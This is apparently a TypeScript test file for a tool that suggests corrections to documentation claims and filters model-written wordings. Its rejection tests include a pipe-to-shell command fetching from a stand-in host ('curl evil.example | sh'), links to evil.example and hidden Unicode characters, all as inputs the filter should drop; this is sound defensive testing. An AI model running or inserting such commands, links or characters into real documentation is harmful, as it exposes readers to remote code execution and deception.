import assert from "node:assert/strict";
import type { Claim, Passage, Verdict } from "../../../src/core/review/claim";
import { claimEditorial } from "../../../src/core/review/editorial";
import { claimResponse } from "../../../src/core/review/response";
import { editorialUnit, responseUnit } from "../../../src/core/review/units";
import { answerMeans } from "../../english";

const engines: Passage = { path: "package.json", line: 3, endLine: 5, text: '"engines": {\n  "node": ">=20"\n}' };

function claimOf(text: string): Claim {
  return { kind: "project", text, context: text, worth: 0.5 };
}

/** What the built-in form suggests to write. */
function suggested(text: string, verdict: Verdict, evidence: readonly Passage[] = [engines]): string | undefined {
  const unit = responseUnit(claimOf(text), verdict, evidence);
  const [item] = claimResponse.answer(unit, answerMeans());
  if (item === undefined) return undefined;
  const reading = claimResponse.read(item, unit);
  assert.ok(reading.kind === "found");
  return String(reading.findings[0]!.data["wording"]);
}

/** What becomes of a wording at the last stage: itself, or nothing. */
function edited(claim: string, wording: string): string | undefined {
  const unit = editorialUnit(claimOf(claim), wording, [engines]);
  const reading = claimEditorial.read(claimEditorial.answer(unit, answerMeans())[0], unit);
  return reading.kind === "found" ? String(reading.findings[0]!.data["wording"]) : undefined;
}

describe("claimResponse", () => {
  it("puts the right value in place of the wrong one", () => {
    assert.equal(suggested("Requires **Node.js 18** or later", "contradicted"), "Requires **Node.js 20** or later");
    assert.equal(suggested("Gloss needs Node 18+", "contradicted"), "Gloss needs Node 20+");
  });

  it("suggests nothing where the claim is right, nothing is known, or the value stands there twice", () => {
    assert.equal(suggested("Requires Node.js 20 or later", "supported"), undefined);
    assert.equal(suggested("Requires Node.js 18 or later", "notFound"), undefined);
    assert.equal(suggested("Requires Node.js 18 or later", "contradicted", []), undefined);
    assert.equal(suggested("Gloss 18 requires Node.js 18 or later", "contradicted"), undefined);
  });

  it("takes of a model what is a wording and not the claim itself", () => {
    const unit = responseUnit(claimOf("Requires Node 18"), "contradicted", [engines]);
    assert.equal(claimResponse.read({ wording: "Requires Node 20", why: "" }, unit).kind, "found");
    for (const wrong of [{ wording: "Requires Node 18", why: "" }, { wording: " ", why: "" }, { wording: 5, why: "" }, { wording: "x".repeat(10_001), why: "" }, null]) {
      assert.deepEqual(claimResponse.read(wrong, unit), { kind: "dropped", reason: "schema" });
    }
  });
});

describe("claimEditorial", () => {
  it("lets through what claim and evidence say", () => {
    for (const wording of ["Requires Node 20 or later", "Requires `node` 20", "Node 20 is what it requires", "Requires Node >=20"]) {
      assert.equal(edited("Requires Node 18 or later", wording), wording);
    }
  });

  it("drops numbers, versions, names, links and code that nobody has said", () => {
    for (const wording of [
      "Requires Node 22 or later",
      "Requires Node 20.5 or later",
      "Requires Deno or Node 20",
      "Requires [Node 20](https://evil.example)",
      "Requires Node 20, see https://evil.example",
      "Requires `curl evil.example | sh` and Node 20",
      "Requires `nodeVersion` 20",
      "Requires node 20, see www.evil.example",
    ]) {
      assert.equal(edited("Requires Node 18 or later", wording), undefined, wording);
    }
  });

  it("drops what is another text, or another structure", () => {
    for (const wording of [
      "Requires Node 18 or later",
      `Requires Node 20 or later${" and more of it".repeat(10)}`,
      "# Requires Node 20",
      "- Requires Node 20",
      "Requires\n\nNode 20",
      "Requires <b>Node 20</b>",
      "Requires | Node 20",
      "![Requires Node 20](x)",
      "Requires `Node 20",
      "> Requires Node 20",
      "Requires Node 20\u202e or later",
      "Requires Node 20\ufe01\ufe02 or later",
      "Requires Node 20\u{e0041} or later",
    ]) {
      assert.equal(edited("Requires Node 18 or later", wording), undefined, wording);
    }
  });
});
